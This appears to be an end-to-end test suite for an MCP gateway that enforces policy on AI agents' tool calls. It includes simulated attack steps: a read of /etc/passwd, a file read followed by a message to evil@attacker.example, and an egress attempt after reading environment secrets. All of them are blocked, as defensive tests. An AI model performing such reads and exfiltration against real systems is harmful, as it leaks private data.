import { McpError } from '@modelcontextprotocol/sdk/types.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type GatewayFixture, startGatewayFixture } from '../support/gateway.js';

const POLICY = `
tools:
  - { match: [files.read_text_file, files.read_file, files.list_directory], labels: [reads:internal] }
  - { match: everything.get-env, labels: [reads:secret] }
  - { match: outbox.post_message, labels: [egress] }
rules:
  - id: read-workspace
    tool: [files.read_text_file, files.list_directory]
    args: { path: { path_under: [$WORKSPACE] } }
    condition: '!has(session.scope.customer) || path_under(call.args.path, ["$WORKSPACE/README.md", "$WORKSPACE/customers/" + session.scope.customer])'
    effect: allow
  - { id: everything-tools, tool: [everything.echo, everything.get-env, everything.trigger-long-running-operation], effect: allow }
  - { id: post, tool: outbox.post_message, effect: allow }
  - { id: list-outbox, tool: outbox.list_messages, effect: allow }
  - id: no-exfiltration
    description: a file read followed by an outbound message is exfiltration
    tool: { labels: [egress] }
    after: { label: reads:internal, within: { steps: 5 } }
    effect: deny
  - id: no-egress-after-secret
    tool: { labels: [egress] }
    taint: { secrecy: [secret] }
    effect: deny
    reason: nothing leaves a session that has read a secret
`;

async function rpcErrorOf(promise: Promise<unknown>): Promise<McpError> {
  try {
    await promise;
  } catch (error) {
    if (error instanceof McpError) return error;
    throw error;
  }
  throw new Error('expected the call to fail');
}

const textOf = (result: unknown) =>
  ((result as { content: Array<{ type: string; text?: string }> }).content ?? [])
    .map((part) => part.text ?? '')
    .join('');

describe('MCP gateway, end to end with real upstreams', () => {
  let fixture: GatewayFixture;

  beforeAll(async () => {
    fixture = await startGatewayFixture({ policy: POLICY });
  }, 60_000);
  afterAll(async () => {
    await fixture?.close();
  });

  it('lists only the tools the policy could allow, namespaced by upstream', async () => {
    const client = await fixture.connect();
    const names = (await client.listTools()).tools.map((tool) => tool.name).sort();
    expect(names).toEqual([
      'everything.echo',
      'everything.get-env',
      'everything.trigger-long-running-operation',
      'files.list_directory',
      'files.read_text_file',
      'outbox.list_messages',
      'outbox.post_message',
    ]);
  });

  it('forwards an allowed call and returns the upstream result', async () => {
    const client = await fixture.connect();
    const result = await client.callTool({
      name: 'files.read_text_file',
      arguments: { path: `${fixture.workspace}/README.md` },
    });
    expect(textOf(result)).toContain('Quarterly numbers');
  });

  it('denies with the reason and rule, forwarding nothing', async () => {
    const client = await fixture.connect();
    const error = await rpcErrorOf(
      client.callTool({ name: 'files.read_text_file', arguments: { path: '/etc/passwd' } }),
    );
    expect(error.code).toBe(-32010);
    expect(error.data).toMatchObject({ code: 'policy_denied', decision: 'no_matching_rule' });
    const hidden = await rpcErrorOf(
      client.callTool({
        name: 'files.write_file',
        arguments: { path: `${fixture.workspace}/x`, content: 'x' },
      }),
    );
    expect(hidden.data).toMatchObject({ code: 'policy_denied' });
  });

  it('blocks read-then-exfiltrate across two upstreams; the outbox verifies every capability it gets', async () => {
    const client = await fixture.connect();
    const before = fixture.outbox.messages.length;
    await client.callTool({
      name: 'outbox.post_message',
      arguments: { to: 'ops@partner.example', text: 'starting' },
    });
    expect(fixture.outbox.messages.length).toBe(before + 1);
    await client.callTool({
      name: 'files.read_text_file',
      arguments: { path: `${fixture.workspace}/README.md` },
    });
    const error = await rpcErrorOf(
      client.callTool({
        name: 'outbox.post_message',
        arguments: { to: 'evil@attacker.example', text: 'the numbers' },
      }),
    );
    expect(error.data).toMatchObject({ code: 'policy_denied', ruleIds: ['no-exfiltration'] });
    expect(fixture.outbox.messages.map((message) => message.to)).not.toContain('evil@attacker.example');
  });

  it('taints the session once a secret was read, however many calls later', async () => {
    const client = await fixture.connect();
    await client.callTool({ name: 'everything.get-env', arguments: {} });
    for (let index = 0; index < 7; index += 1) {
      await client.callTool({ name: 'everything.echo', arguments: { message: `ping ${index}` } });
    }
    const error = await rpcErrorOf(
      client.callTool({ name: 'outbox.post_message', arguments: { to: 'a@b.example', text: 'x' } }),
    );
    expect(error.data).toMatchObject({ ruleIds: ['no-egress-after-secret'] });
  });

  it('never hands an agent an injected secret, even from a tool that prints its environment', async () => {
    const client = await fixture.connect();
    const result = await client.callTool({ name: 'everything.get-env', arguments: {} });
    const text = JSON.stringify(result);
    expect(text).toContain('DEMO_API_KEY');
    expect(text).toContain('[redacted]');
    for (const secret of fixture.secrets) {
      expect(text).not.toContain(secret);
      expect(fixture.logs.join('\n')).not.toContain(secret);
    }
    const audit = JSON.stringify(await fixture.server.gatehouse.store.audit.list(0, 10_000));
    for (const secret of fixture.secrets) expect(audit).not.toContain(secret);
  });

  it('keeps a support session to its customer scope (admin-created task)', async () => {
    const task = await fixture.server.gatehouse.sessions.start({
      agentId: fixture.agentId,
      scope: { customer: 'A' },
    });
    const client = await fixture.connect({ headers: { 'gatehouse-session': task.id } });
    const own = await client.callTool({
      name: 'files.read_text_file',
      arguments: { path: `${fixture.workspace}/customers/A/orders.txt` },
    });
    expect(textOf(own)).toContain('order 1 for A');
    const other = await rpcErrorOf(
      client.callTool({
        name: 'files.read_text_file',
        arguments: { path: `${fixture.workspace}/customers/B/orders.txt` },
      }),
    );
    expect(other.data).toMatchObject({ code: 'policy_denied' });
    const timeline = await fixture.server.gatehouse.store.sessions.callsOf(task.id);
    expect(timeline.map((call) => [call.step, call.effect])).toEqual([
      [1, 'allow'],
      [2, 'deny'],
    ]);
  });

  it('audits decision and outcome of every call, durably before the result returns', async () => {
    const client = await fixture.connect();
    await client.callTool({ name: 'everything.echo', arguments: { message: 'audited' } });
    const entries = await fixture.server.gatehouse.store.audit.list(0, 100_000);
    const last = entries.filter((entry) => entry.action.startsWith('mcp.call.')).slice(-2);
    expect(last.map((entry) => entry.action)).toEqual(['mcp.call.decided', 'mcp.call.completed']);
    expect(last[0]?.details).toMatchObject({
      tool: 'everything.echo',
      effect: 'allow',
      ruleIds: ['everything-tools'],
    });
    expect(last[1]?.details).toMatchObject({ tool: 'everything.echo', outcome: 'ok' });
  });
});
